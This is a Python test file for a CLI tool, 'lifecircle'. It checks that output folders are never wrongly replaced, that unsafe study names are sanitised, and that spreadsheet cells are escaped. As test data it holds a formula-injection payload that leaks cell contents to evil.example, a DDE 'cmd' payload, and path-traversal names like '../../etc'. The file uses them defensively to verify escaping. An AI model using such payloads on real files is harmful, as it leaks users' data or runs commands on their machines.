"""Output folders lifecircle must never replace, names made safe, the lock, the litter of killed
runs, spreadsheet formula injection and help text.

The CLI cases stop before any input is read: ``load_inputs`` fails the test if it is reached.
"""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from lifecircle import cli
from lifecircle.errors import InputError
from lifecircle.output import (
    MARKER,
    claim_output,
    csv_text,
    folder_name,
    spreadsheet_text,
    staged_folder,
)
from lifecircle.pipeline import default_out_dir
from lifecircle.plan import load_plan

from .sample_copy import copy_sample, digests, edit_plan, one_line

runner = CliRunner()


@pytest.fixture(autouse=True)
def wide_console(monkeypatch):
    """No wrapping of the one-line messages."""
    monkeypatch.setattr(cli.console, "width", 1000)


@pytest.fixture
def plan(tmp_path) -> Path:
    return copy_sample(tmp_path)


@pytest.fixture
def no_loading(monkeypatch):
    """The run must stop before any input is read."""

    def refuse(*args, **kwargs):
        raise AssertionError("inputs were loaded: the output folder was not checked first")

    monkeypatch.setattr("lifecircle.pipeline.load_inputs", refuse)


def _refused(args: list[str], expected: str) -> None:
    result = runner.invoke(cli.app, args)
    assert isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert one_line(result.output) == one_line(f"error: {expected}")


def _user_folder(folder: Path) -> dict[str, str]:
    """A folder of the user's own files; returns their digests."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "notes.txt").write_text("会议纪要", encoding="utf-8")
    (folder / "budget.xlsx").write_bytes(b"PK\x03\x04 not really a workbook")
    (folder / "sub").mkdir()
    (folder / "sub" / "data.csv").write_text("a,b\n1,2\n", encoding="utf-8")
    return digests(folder)


# ---- folders that are not lifecircle's to replace ---------------------------------------------


def test_plan_folder_as_output_is_refused_and_left_intact(plan, no_loading):
    folder = plan.parent
    before = digests(folder)
    _refused(
        ["run", str(plan), "--out", str(folder)],
        f"{folder} holds this run's input plan.toml; lifecircle would replace it: choose an "
        f"output folder of its own, e.g. --out {folder / 'out'}",
    )
    assert digests(folder) == before
    assert sorted(p.name for p in folder.parent.iterdir()) == ["boundaries", "sample"]


def test_current_folder_as_output_is_refused(plan, tmp_path, monkeypatch, no_loading):
    work = tmp_path / "work"
    before = _user_folder(work)
    monkeypatch.chdir(work)
    _refused(
        ["run", str(plan), "--out", "."],
        f"{work} is the folder you are working in (or holds it); lifecircle would replace it: "
        f"choose an output folder of its own, e.g. --out {work / 'out'}",
    )
    assert digests(work) == before


def test_parent_of_current_folder_as_output_is_refused(plan, tmp_path, monkeypatch, no_loading):
    work = tmp_path / "work" / "deeper"
    before = _user_folder(work)
    monkeypatch.chdir(work)
    _refused(
        ["run", str(plan), "--out", ".."],
        f"{work.parent} is the folder you are working in (or holds it); lifecircle would replace "
        f"it: choose an output folder of its own, e.g. --out {work.parent / 'out'}",
    )
    assert digests(work) == before


def test_existing_file_as_output_is_refused(plan, tmp_path, no_loading):
    notes = tmp_path / "notes.txt"
    notes.write_text("不要删除", encoding="utf-8")
    _refused(
        ["run", str(plan), "--out", str(notes)],
        f"{notes} is a file, not a folder: lifecircle never replaces a file — choose another "
        "output folder (--out)",
    )
    assert notes.read_text(encoding="utf-8") == "不要删除"
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_folder_below_a_file_is_refused(plan, tmp_path, no_loading):
    notes = tmp_path / "notes.txt"
    notes.write_text("x", encoding="utf-8")
    _refused(
        ["run", str(plan), "--out", str(notes / "out")],
        f"{notes} is a file, not a folder: choose another output folder (--out) — nothing was "
        f"written to {notes / 'out'}",
    )
    assert notes.read_text(encoding="utf-8") == "x"


def test_folder_of_user_files_is_refused(plan, tmp_path, no_loading):
    folder = tmp_path / "报告"
    before = _user_folder(folder)
    _refused(
        ["run", str(plan), "--out", str(folder)],
        f"{folder} already exists and was not written by lifecircle (it holds budget.xlsx, "
        "notes.txt, sub/data.csv); lifecircle never deletes what it did not write: choose "
        "another output folder (--out), or empty this one",
    )
    assert digests(folder) == before


def test_lifecircle_output_with_a_user_file_added_is_refused(plan, tmp_path, no_loading):
    out = tmp_path / "out"
    with staged_folder(out) as stage:
        (stage / "gaps.csv").write_text("previous", encoding="utf-8")
    (out / "我的批注.docx").write_bytes(b"user's notes")
    before = digests(out)
    _refused(
        ["run", str(plan), "--out", str(out)],
        f"{out} holds files lifecircle did not write (我的批注.docx); the new output would "
        "delete them: move them elsewhere, or choose another output folder (--out)",
    )
    assert digests(out) == before


def test_read_only_previous_output_is_refused(plan, tmp_path, monkeypatch, no_loading):
    out = tmp_path / "out"
    with staged_folder(out) as stage:
        (stage / "gaps.csv").write_text("previous", encoding="utf-8")
    before = digests(out)
    # Tests run as root, who may write anywhere: the permission check is answered as for a user.
    monkeypatch.setattr("lifecircle.output._writable", lambda folder: Path(folder) != out)
    _refused(
        ["run", str(plan), "--out", str(out)],
        f"{out} is read-only, so the previous output cannot be replaced: make it writable, or "
        "choose another output folder (--out)",
    )
    assert digests(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["boundaries", "out", "sample"]


def test_symbolic_link_as_output_is_refused(plan, tmp_path, no_loading):
    target = tmp_path / "real"
    before = _user_folder(target)
    link = tmp_path / "link"
    link.symlink_to(target)
    _refused(
        ["run", str(plan), "--out", str(link)],
        f"{link} is a symbolic link: give the real folder, or another output folder (--out)",
    )
    assert digests(target) == before


def test_name_too_long_is_refused_before_work(plan, tmp_path, no_loading):
    out = tmp_path / ("长" * 100)  # 300 bytes of UTF-8
    _refused(
        ["run", str(plan), "--out", str(out)],
        "the output folder name is 300 bytes long and the file system allows 231 here: choose a "
        f"shorter output folder (--out) — nothing was written to {out}",
    )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["boundaries", "sample"]


def test_control_character_in_output_name_is_refused(plan, tmp_path, no_loading):
    out = tmp_path / "a\x07b"
    _refused(
        ["run", str(plan), "--out", str(out)],
        "the output folder name 'a\\x07b' holds control characters: choose another (--out), "
        "e.g. 'a_b'",
    )


def test_second_run_into_a_locked_folder_stops_at_once(plan, tmp_path, no_loading):
    out = tmp_path / "out"
    with claim_output(out):
        _refused(
            ["run", str(plan), "--out", str(out)],
            f"another lifecircle run (process {os.getpid()}) is writing {out}: wait for it to "
            "finish, or choose another output folder (--out)",
        )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["boundaries", "sample"], "lock removed"


def test_dangerous_study_name_cannot_reach_outside_out(plan, tmp_path, monkeypatch):
    """`[study] name = ".."` with the default output folder: the run from a user's folder
    claims out/unnamed, and the user's files stay."""
    work = tmp_path / "work"
    before = _user_folder(work)
    monkeypatch.chdir(work)
    edit_plan(plan, 'name = "示范区"', 'name = ".."')

    def stop(*args, **kwargs):
        assert sorted(p.name for p in (work / "out").iterdir()) == [".unnamed.lock"]
        raise InputError("stopped by the test once the output folder was claimed")

    monkeypatch.setattr("lifecircle.pipeline.load_inputs", stop)
    result = runner.invoke(cli.app, ["run", str(plan)])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit)
    assert one_line(result.output) == (
        "error: stopped by the test once the output folder was claimed"
    )
    assert digests(work) == before
    assert list((work / "out").iterdir()) == []


@pytest.mark.parametrize(
    ("name", "folder"),
    [
        ("..", "unnamed"),
        (".", "unnamed"),
        ("../../etc", "_.._etc"),
        ("示范区/../..", "示范区_.._"),
        ("a\x00b\nc\u202e", "a_b_c_"),
        ("CON", "_CON"),
        ("nul.txt", "_nul.txt"),
        ("  \t ", "unnamed"),
        ('a:b*c?"<>|', "a_b_c_____"),
        ("名" * 100, "名" * 77),
    ],
)
def test_study_names_become_one_safe_folder_name(plan, name, folder):
    edit_plan(plan, 'name = "示范区"', f"name = {json.dumps(name)}")
    assert default_out_dir(load_plan(plan)) == Path("out") / folder
    assert len(folder.encode("utf-8")) <= 231


def test_township_file_names_fit_the_file_system():
    name = folder_name("镇" * 200, max_bytes=200)
    assert name == "镇" * 66 and len(f"330000000000-{name}.html".encode()) <= 255 - 10


# ---- what the library does with its own folders ------------------------------------------------


def test_empty_folder_may_be_used(tmp_path):
    out = tmp_path / "空"
    out.mkdir()
    with staged_folder(out) as stage:
        (stage / "gaps.csv").write_text("new", encoding="utf-8")
    assert sorted(p.name for p in out.iterdir()) == [MARKER, "gaps.csv"]
    marker = json.loads((out / MARKER).read_text(encoding="utf-8"))
    assert marker == {"lifecircle": "output", "target": "空", "files": ["gaps.csv"]}
    assert [p.name for p in tmp_path.iterdir()] == ["空"]


def test_killed_runs_staging_is_removed_and_only_if_marked(tmp_path):
    out = tmp_path / "out"
    with staged_folder(out) as stage:
        (stage / "gaps.csv").write_text("previous", encoding="utf-8")
    before = digests(out)
    killed = tmp_path / ".out.partial-k1ll3d00"
    killed.mkdir()
    (killed / MARKER).write_text(json.dumps({"lifecircle": "staging", "target": "out"}))
    (killed / "gaps.csv").write_text("half", encoding="utf-8")
    users = tmp_path / ".out.partial-mine"  # looks like staging but carries no marker
    users.mkdir()
    (users / "keep.txt").write_text("keep", encoding="utf-8")
    other = tmp_path / ".out2.partial-x"  # another output's staging: not this run's to judge
    other.mkdir()
    (other / MARKER).write_text(json.dumps({"lifecircle": "staging", "target": "out2"}))
    with claim_output(out):
        pass
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        ".out.partial-mine",
        ".out2.partial-x",
        "out",
    ]
    assert (users / "keep.txt").read_text(encoding="utf-8") == "keep"
    assert digests(out) == before


def test_run_killed_between_the_two_renames_gets_its_output_back(tmp_path):
    out = tmp_path / "out"
    with staged_folder(out) as stage:
        (stage / "gaps.csv").write_text("previous", encoding="utf-8")
    before = digests(out)
    # The swap renamed the output away and died before the new one took its place.
    out.rename(tmp_path / ".out.old-abcd1234")
    staging = tmp_path / ".out.partial-efgh5678"
    staging.mkdir()
    (staging / MARKER).write_text(json.dumps({"lifecircle": "output", "target": "out"}))
    with claim_output(out):
        assert digests(out) == before
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


def test_failed_write_keeps_previous_output_and_leaves_no_litter(tmp_path):
    out = tmp_path / "out"
    with staged_folder(out) as stage:
        (stage / "gaps.csv").write_text("previous", encoding="utf-8")
    before = digests(out)
    with pytest.raises(RuntimeError, match="boom"), staged_folder(out) as stage:
        (stage / "gaps.csv").write_text("half", encoding="utf-8")
        raise RuntimeError("boom")
    assert digests(out) == before
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


# ---- spreadsheet formula injection -------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"白鹭镇")镇'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("白鹭镇", "白鹭镇"),
        ("-5", "-5"),
        ("-0.25", "-0.25"),
        (-5, -5),
        (-0.25, -0.25),
        (None, None),
    ],
)
def test_spreadsheet_text_neutralises_formulas_and_keeps_numbers(value, written):
    assert spreadsheet_text(value) == written


def test_csv_cells_are_inert_and_numbers_stay_numbers(tmp_path):
    frame = pd.DataFrame({"名称": [EVIL, "白鹭镇"], "差距": [-3.5, 2.0], "行号": [2, 3]})
    text = csv_text(frame)
    rows = list(csv.reader(text.splitlines()))
    assert rows == [["名称", "差距", "行号"], ["'" + EVIL, "-3.5", "2"], ["白鹭镇", "2.0", "3"]]


def test_gap_report_township_named_as_a_formula_stays_text(tmp_path):
    from lifecircle.coverage.targets import GapReport
    from lifecircle.report import write_gaps_csv, write_gaps_xlsx

    rows = pd.DataFrame(
        {
            "target_id": ["t1", "t1"],
            "indicator": ["覆盖率", "覆盖率"],
            "level": ["township", "township"],
            "unit_code": ["329901001", "329901002"],
            "unit_name": [EVIL, "白鹭镇"],
            "value": [-12.5, 80.0],
            "target_value": [90.0, 90.0],
            "status": ["not_met", "not_met"],
            "status_zh": ["未达标", "未达标"],
        }
    )
    summary = rows.iloc[:1].assign(level="district", unit_name="全区", unit_code="329901")
    report = GapReport(rows=rows, summary=summary)
    write_gaps_xlsx(report, tmp_path / "gaps.xlsx")
    workbook = load_workbook(tmp_path / "gaps.xlsx")
    cells = [c for ws in workbook for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no formula anywhere"
    evil = [c for c in cells if c.value == EVIL]
    assert len(evil) == 1 and evil[0].data_type == "s"
    negative = [c for c in cells if c.value == -12.5]  # summary, unit row, area row
    assert len(negative) == 3 and {c.data_type for c in negative} == {"n"}, "numbers stay numbers"
    write_gaps_csv(report, tmp_path / "gaps.csv")
    with (tmp_path / "gaps.csv").open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.DictReader(handle))
    assert [r["单元名称"] for r in table] == ["'" + EVIL, "白鹭镇", "全区"]
    assert [r["现状值"] for r in table] == ["-12.5", "80.0", "-12.5"]


# ---- help text ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "text"),
    [
        ("run", "Output folder [default: out/<study name>]."),
        ("demo", "Output folder [default: out/<study name>]."),
        ("site", "(overrides the plan's [siting])"),
        ("presets", "Plan whose data to evaluate [default: the sample]."),
    ],
)
def test_help_keeps_words_in_square_brackets(command, text):
    result = runner.invoke(cli.app, [command, "--help"], terminal_width=200)
    assert result.exit_code == 0
    assert text in one_line(result.output)


def test_output_of_a_version_before_markers_is_replaced(tmp_path):
    """Folders written before markers existed are recognised by their run.json."""
    out = tmp_path / "out"
    (out / "townships").mkdir(parents=True)
    (out / "gaps.csv").write_text("old", encoding="utf-8")
    (out / "townships" / "1-镇.html").write_text("old", encoding="utf-8")
    record = {"versions": {"lifecircle": "0.1.0"}, "outputs": ["gaps.csv", "townships/1-镇.html"]}
    (out / "run.json").write_text(json.dumps(record), encoding="utf-8")
    with staged_folder(out) as stage:
        (stage / "gaps.csv").write_text("new", encoding="utf-8")
    assert sorted(digests(out)) == [MARKER, "gaps.csv"]
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


def test_files_lifecircle_adds_to_its_output_later_are_its_own(tmp_path):
    """The batch runner writes its tables into a finished county folder: they join the list."""
    from lifecircle.output import write_bytes_atomic

    out = tmp_path / "county"
    with staged_folder(out) as stage:
        (stage / "gaps.csv").write_text("x", encoding="utf-8")
    write_bytes_atomic(out / "gaps.parquet", b"PAR1")
    marker = json.loads((out / MARKER).read_text(encoding="utf-8"))
    assert marker["files"] == ["gaps.csv", "gaps.parquet"]
    with staged_folder(out) as stage:
        (stage / "gaps.csv").write_text("y", encoding="utf-8")
    assert sorted(digests(out)) == [MARKER, "gaps.csv"]
